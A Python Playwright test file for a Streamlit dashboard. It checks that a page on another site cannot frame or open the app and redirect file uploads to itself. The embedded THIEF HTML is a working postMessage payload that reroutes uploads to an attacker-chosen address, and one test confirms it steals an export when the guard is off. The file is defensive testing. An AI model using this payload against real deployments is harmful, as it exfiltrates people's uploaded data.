"""A page of another site that frames the dashboard, or opens it, and gives it orders.

Streamlit obeys such orders from the pages of its list, by itself that of its makers' domains. One
of them sends the files that a person drops to an address of the page's choice.
"""

from __future__ import annotations

import time
from contextlib import suppress
from typing import TYPE_CHECKING

import pytest
from browser.settling import SETTLE_SECONDS
from playwright.sync_api import Error, expect

if TYPE_CHECKING:
    from collections.abc import Callable

    from playwright.sync_api import Frame, Page, Route

pytestmark = pytest.mark.browser
SITE = "https://x.streamlit.app"
AS_STREAMLIT_COMES = "--client.allowedOrigins=https://*.streamlit.app"
EXPORT = b"date,clinician,client,goal_1\n2026-01-05,CL-01,K2964,3\n"
THIEF = """
<!doctype html><title>Thief</title>
<iframe src="{dashboard}/your_data" width="1200" height="1000"></iframe>
<button onclick="other = window.open('{dashboard}/your_data')">Open</button>
<script>
  let other = null;
  const order = {{stCommVersion: 1, type: 'SET_FILE_UPLOAD_CLIENT_CONFIG',
                  prefix: '{site}/', headers: {{}}}};
  setInterval(() => {{
    document.querySelector('iframe').contentWindow.postMessage(order, '*');
    if (other) other.postMessage(order, '*');
  }}, 100);
</script>
"""
ALLOW = {
    "Access-Control-Allow-Origin": "*",
    "Access-Control-Allow-Methods": "*",
    "Access-Control-Allow-Headers": "*",
}


@pytest.fixture
def stolen():
    """What arrived at the other site, beside the page asked for there."""
    return list[bytes]()


@pytest.fixture
def thief(browser, stolen):
    """Open the other site's page round a dashboard; no request for it leaves this machine."""
    contexts = []

    def open_(dashboard: str) -> Page:
        context = browser.new_context(viewport={"width": 1300, "height": 1200})
        contexts.append(context)
        # newer browsers ask the person first; an older one knows no such right
        with suppress(Error):
            context.grant_permissions(["local-network-access"], origin=SITE)

        def answer(route: Route) -> None:
            asked = route.request
            if asked.method == "GET":
                body = THIEF.format(dashboard=dashboard, site=SITE)
                route.fulfill(body=body, content_type="text/html")
                return
            stolen.append(asked.post_data_buffer or b"")
            route.fulfill(status=204, headers=ALLOW)

        context.route(f"{SITE}/**", answer)
        page = context.new_page()
        page.goto(f"{SITE}/")
        return page

    yield open_
    for context in contexts:
        context.close()


def drop(place: Frame, *, after: Callable[[Frame], None]) -> None:
    """Drop an export where the person sees the drop zone, after what comes before it."""
    chosen = place.locator("input[type=file]")
    chosen.wait_for(state="attached", timeout=1000 * SETTLE_SECONDS)
    after(place)
    chosen.set_input_files({"name": "export.csv", "mimeType": "text/csv", "buffer": EXPORT})


def orders_have_come(place: Frame) -> None:
    place.evaluate(
        """() => new Promise(done => {
          let orders = 0;
          addEventListener('message', () => { if (++orders === 3) done(); });
        })"""
    )


def orders_had_time_to_come(place: Frame) -> None:
    place.page.wait_for_timeout(1500)


@pytest.mark.release
def test_without_guard_and_list_the_export_goes_to_the_other_site(run_dashboard, thief, stolen):
    """So the tests below can fail."""
    page = thief(run_dashboard(AS_STREAMLIT_COMES, script="app.py").url)
    drop(page.frames[1], after=orders_have_come)
    expect(page.frame_locator("iframe").get_by_text("export.csv").first).to_be_visible()
    deadline = time.monotonic() + SETTLE_SECONDS
    while not any(b"K2964" in body for body in stolen):
        assert time.monotonic() < deadline
        page.wait_for_timeout(100)


@pytest.mark.release
def test_a_bare_app_takes_no_orders_from_the_page_round_it(run_dashboard, thief, stolen):
    dashboard = run_dashboard(script="app.py")
    page = thief(dashboard.url)
    is_upload, wait = (lambda one: one.method == "PUT"), 1000 * SETTLE_SECONDS
    with page.expect_request(is_upload, timeout=wait) as sent:
        drop(page.frames[1], after=orders_have_come)
    assert sent.value.url.startswith(dashboard.url)
    assert stolen == []


def test_behind_the_guard_the_frame_stays_empty(dashboard, thief, stolen):
    page = thief(dashboard.url)
    page.wait_for_timeout(3000)
    (frame,) = page.frames[1:]
    assert frame.url.startswith("chrome-error:")
    assert frame.locator("[data-testid=stApp]").count() == 0
    assert stolen == []


def test_a_window_that_the_other_site_opens_takes_no_orders_either(dashboard, thief, stolen):
    page = thief(dashboard.url)
    with page.context.expect_page() as opened:
        page.get_by_role("button", name="Open").click()
    window = opened.value
    drop(window.main_frame, after=orders_had_time_to_come)
    expect(window.get_by_role("button", name="Bring this in")).to_be_visible(
        timeout=1000 * SETTLE_SECONDS
    )
    assert window.evaluate("window.opener") is None
    assert stolen == []
